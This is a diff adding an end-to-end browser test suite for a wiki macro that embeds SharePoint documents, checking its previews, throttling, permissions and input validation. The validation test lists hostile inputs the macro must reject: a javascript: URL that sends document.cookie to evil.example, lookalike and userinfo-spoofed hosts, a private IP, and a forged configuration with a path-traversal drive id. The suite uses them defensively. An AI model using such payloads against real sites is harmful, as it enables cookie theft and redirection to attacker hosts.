@@ -1,0 +1,193 @@
+import { afterAll, beforeAll, describe, expect, it } from 'vitest';
+import type { Browser, BrowserContext, FrameLocator, Page, Request } from 'playwright-core';
+import { launchChromium } from '../support/browser';
+import { startTestHost, type TestHost } from '../support/host';
+
+const PAGE = '/wiki/spaces/DEMO/pages/65601';
+// Alice alone may read this file (dev/fixtures/demo-tenant.json): Bob gets a trimmed 404, Gina (guest) a 403 on the site.
+const FILE_URL = 'https://contoso.sharepoint.com/sites/phoenix/Shared Documents/Specs/Vendor contract.pdf';
+const FILE_NAME = 'Vendor contract.pdf';
+const NO_ACCESS = `You don’t have access to the document “${FILE_NAME}” in SharePoint`;
+
+/** Clicking "Connect" opens Microsoft's sign-in in a new tab; sign in there as `email`. */
+async function signInInNewTab(page: Page, frame: FrameLocator, email: string) {
+  const [tab] = await Promise.all([page.context().waitForEvent('page'), frame.getByRole('button', { name: 'Connect Microsoft 365' }).click()]);
+  await tab.getByRole('button', { name: email }).click();
+  await tab.getByRole('button', { name: 'Accept' }).click();
+  await tab.waitForLoadState();
+  await tab.close();
+}
+
+describe('SharePoint Document macro (Chromium)', () => {
+  let host: TestHost;
+  let browser: Browser;
+  const contexts: BrowserContext[] = [];
+
+  /** A fresh browser profile whose every request (all frames, all tabs) is recorded. */
+  async function visit(user: string, path = PAGE) {
+    const context = await browser.newContext();
+    contexts.push(context);
+    const requests: Request[] = [];
+    const cspErrors: string[] = [];
+    context.on('request', (r) => requests.push(r));
+    const page = await context.newPage();
+    page.on('console', (m) => {
+      if (/Content Security Policy|Refused to (frame|load|connect)/i.test(m.text())) cspErrors.push(m.text());
+    });
+    await page.goto(`${host.origin}${path}${path.includes('?') ? '&' : '?'}as=${user}`);
+    return { context, page, requests, cspErrors, macro: page.frameLocator('iframe[title="SharePoint Document"]') };
+  }
+  const graphCalls = (requests: Request[]) => requests.filter((r) => new URL(r.url()).pathname.startsWith('/graph/'));
+
+  beforeAll(async () => {
+    host = await startTestHost();
+    browser = await launchChromium();
+  });
+  afterAll(async () => {
+    for (const c of contexts) await c.close().catch(() => {});
+    await browser?.close();
+    await host?.stop();
+  });
+
+  it('an editor inserts the macro, connects in the dialog, is refused hostile addresses that are never requested, then picks a file', async () => {
+    const { page, requests } = await visit('alice', `${PAGE}?mode=edit`);
+    await page.getByRole('button', { name: 'Insert SharePoint Document' }).click();
+    const settings = page.frameLocator('iframe[title="SharePoint Document settings"]');
+    await signInInNewTab(page, settings, 'alice@contoso.com');
+    await settings.getByText('Signed in as Alice Adams').waitFor();
+
+    const address = settings.getByLabel('SharePoint file address or sharing link');
+    const graphBefore = graphCalls(requests).length;
+    const hostile: Array<[string, string]> = [
+      ['http://contoso.sharepoint.com/sites/phoenix/Shared Documents/Project charter.docx', 'Only secure addresses (https://) can be used.'],
+      ['https://10.0.0.5/sites/phoenix/Shared Documents/Project charter.docx', 'not an IP address'],
+      ['https://contoso.sharepoint.com@evil.example/sites/phoenix/Shared Documents/x.docx', 'user name or “@” before the site name'],
+      ['https://evil.example/sites/phoenix/Shared Documents/x.docx', '“evil.example” is not a SharePoint Online address'],
+      ['https://contoso.sharepoint.com.evil.example/sites/phoenix/Shared Documents/x.docx', 'is not a SharePoint Online address'],
+      ['javascript:fetch("https://evil.example/"+document.cookie)', '“javascript:” addresses can’t be used'],
+    ];
+    for (const [url, message] of hostile) {
+      await address.fill(url);
+      await settings.getByRole('button', { name: 'Find document' }).click();
+      await expect.poll(() => settings.getByRole('alert').textContent()).toContain(message);
+      expect(await settings.getByRole('button', { name: 'Save' }).isDisabled()).toBe(true);
+    }
+    expect(requests.map((r) => r.url()).filter((u) => /evil\.example|10\.0\.0\.5/.test(u))).toEqual([]);
+    expect(graphCalls(requests).length).toBe(graphBefore);
+
+    // A folder is not a document: said before the card, nothing to save.
+    await address.fill('https://contoso.sharepoint.com/sites/phoenix/Shared Documents/Forms/AllItems.aspx');
+    await settings.getByRole('button', { name: 'Find document' }).click();
+    await expect.poll(() => settings.getByRole('alert').textContent()).toContain('points at a library, not a file');
+
+    await address.fill(FILE_URL);
+    await settings.getByRole('button', { name: 'Find document' }).click();
+    await settings.getByRole('heading', { name: FILE_NAME }).waitFor();
+    expect(await settings.getByRole('article').textContent()).toContain('by Alice Adams');
+    await Promise.all([page.waitForEvent('load'), settings.getByRole('button', { name: 'Save' }).click()]);
+
+    // Stored: ids, name and webUrl only.
+    const stored = JSON.parse((await page.locator('.macro').first().getAttribute('data-config')) ?? '{}');
+    expect(Object.keys(stored).sort()).toEqual(['driveId', 'itemId', 'name', 'siteId', 'version', 'webUrl']);
+    expect(stored).toMatchObject({ name: FILE_NAME, siteId: expect.stringMatching(/^contoso\.sharepoint\.com,/) });
+    await page.getByRole('button', { name: 'Edit SharePoint Document' }).waitFor();
+  });
+
+  it('the page shows the card and an inline preview, framed as the CSP allows', async () => {
+    const { macro, cspErrors, requests } = await visit('alice');
+    await macro.getByRole('heading', { name: FILE_NAME }).waitFor();
+    const card = await macro.getByRole('article').textContent();
+    expect(card).toMatch(/bytes|KB/);
+    expect(card).toContain('by Alice Adams');
+    expect(await macro.getByRole('img', { name: 'PDF' }).count()).toBe(1);
+    expect(await macro.getByRole('link', { name: 'Open in SharePoint' }).getAttribute('href')).toBe(
+      'https://contoso.sharepoint.com/sites/phoenix/Shared%20Documents/Specs/Vendor%20contract.pdf',
+    );
+
+    const preview = macro.frameLocator(`iframe[title="Preview of ${FILE_NAME}"]`);
+    await expect.poll(() => preview.locator('h1').textContent()).toBe(FILE_NAME);
+    expect(cspErrors).toEqual([]);
+    // Card and preview came from Graph with the viewer's token; the frame from the emulator's SharePoint pages.
+    const paths = requests.map((r) => new URL(r.url()).pathname);
+    expect(paths.some((p) => /^\/graph\/v1\.0\/drives\/[^/]+\/items\/[^/]+\/preview$/.test(p))).toBe(true);
+    expect(paths.some((p) => p.startsWith('/sharepoint/contoso.sharepoint.com/_layouts/15/embed.aspx'))).toBe(true);
+  });
+
+  it('falls back to the thumbnail when SharePoint offers no preview', async () => {
+    const { context, page, macro, cspErrors } = await visit('alice', '/');
+    await context.route(/\/graph\/v1\.0\/drives\/[^/]+\/items\/[^/]+\/preview$/, (route) =>
+      route.request().method() !== 'POST'
+        ? route.continue()
+        : route.fulfill({
+            status: 404,
+            headers: { 'content-type': 'application/json', 'access-control-allow-origin': '*' },
+            body: JSON.stringify({ error: { code: 'itemNotFound', message: 'No preview' } }),
+          }),
+    );
+    await page.goto(`${host.origin}${PAGE}`);
+    const thumb = macro.getByRole('img', { name: `Thumbnail of ${FILE_NAME}` });
+    await thumb.waitFor();
+    await expect.poll(() => thumb.evaluate((img: HTMLImageElement) => img.complete && img.naturalWidth)).toBeGreaterThan(0);
+    expect(await macro.locator('iframe').count()).toBe(0);
+    expect(cspErrors).toEqual([]);
+  });
+
+  it('shows "Retrying…" while SharePoint throttles, then the document', async () => {
+    const { context, page, macro } = await visit('alice', '/');
+    let throttled = 0;
+    await context.route(/\/graph\/v1\.0\/drives\/[^/]+\/items\/[^/?]+\?/, async (route) => {
+      if (route.request().method() !== 'GET' || throttled > 0) return route.continue();
+      throttled++;
+      await route.fulfill({
+        status: 429,
+        headers: { 'content-type': 'application/json', 'retry-after': '2', 'access-control-allow-origin': '*', 'access-control-expose-headers': 'Retry-After' },
+        body: JSON.stringify({ error: { code: 'TooManyRequests', message: 'Slow down' } }),
+      });
+    });
+    await page.goto(`${host.origin}${PAGE}`);
+    await expect.poll(() => macro.getByRole('status').textContent(), { timeout: 15_000 }).toContain('Retrying…');
+    expect(await macro.getByRole('status').textContent()).toContain('trying again in 2 s');
+    await macro.getByRole('heading', { name: FILE_NAME }).waitFor();
+    expect(throttled).toBe(1);
+  });
+
+  it('a viewer whose SharePoint rights don’t include the file is told so — after connecting', async () => {
+    const { page, macro } = await visit('bob');
+    await macro.getByRole('button', { name: 'Connect Microsoft 365' }).waitFor();
+    expect(await macro.locator('body').textContent()).toContain(`Sign in to Microsoft 365 to see the document “${FILE_NAME}”`);
+    await signInInNewTab(page, macro, 'bob@contoso.com');
+    await expect.poll(() => macro.getByRole('alert').textContent(), { timeout: 15_000 }).toContain(NO_ACCESS);
+    expect(await macro.getByRole('alert').textContent()).toContain('or it has been deleted or moved');
+    expect(await macro.getByRole('heading', { name: FILE_NAME }).count()).toBe(0);
+    expect(await macro.locator('iframe').count()).toBe(0);
+  });
+
+  it('a guest from another tenant sees only what the guest may: no access to this site', async () => {
+    const { page, macro } = await visit('gina');
+    await signInInNewTab(page, macro, 'gina@fabrikam.com');
+    await expect.poll(() => macro.getByRole('alert').textContent(), { timeout: 15_000 }).toBe(`${NO_ACCESS}.`);
+  });
+
+  it('an anonymous visitor is told to log in, and nothing is asked of Microsoft', async () => {
+    const { macro, requests } = await visit('anonymous');
+    await macro.getByText('Log in to see this SharePoint document.').waitFor();
+    expect(graphCalls(requests)).toEqual([]);
+  });
+
+  it('a malformed stored configuration gets a clear message and no request', async () => {
+    const cookie = { 'content-type': 'application/json', cookie: 'forge_local_as=alice' };
+    const html = await (await fetch(`${host.origin}${PAGE}`, { headers: cookie })).text();
+    for (const [, id] of html.matchAll(/data-local-id="([^"]+)"/g)) {
+      await fetch(`${host.origin}/__host/pages/65601/macros/${encodeURIComponent(id ?? '')}`, { method: 'DELETE', headers: cookie });
+    }
+    const bad = { version: 1, siteId: 'evil.example,3c2f1e0d-7b6a-4958-8f7e-6d5c4b3a2910,0f1e2d3c-4b5a-4697-8887-a6b5c4d3e2f1', driveId: 'b!../../me', itemId: 'x', name: 'x.pdf', webUrl: 'https://evil.example/x.pdf' };
+    const saved = await fetch(`${host.origin}/__host/pages/65601/macros`, { method: 'POST', headers: cookie, body: JSON.stringify({ moduleKey: 'sharepoint-document', localId: 'bad-1', config: bad }) });
+    expect(saved.ok).toBe(true);
+
+    const { macro, requests } = await visit('alice');
+    await expect.poll(() => macro.getByRole('alert').textContent()).toContain('The macro settings are not valid');
+    expect(await macro.getByRole('alert').textContent()).toContain('Edit the macro');
+    expect(graphCalls(requests)).toEqual([]);
+    expect(requests.map((r) => r.url()).filter((u) => u.includes('evil.example'))).toEqual([]);
+  });
+});
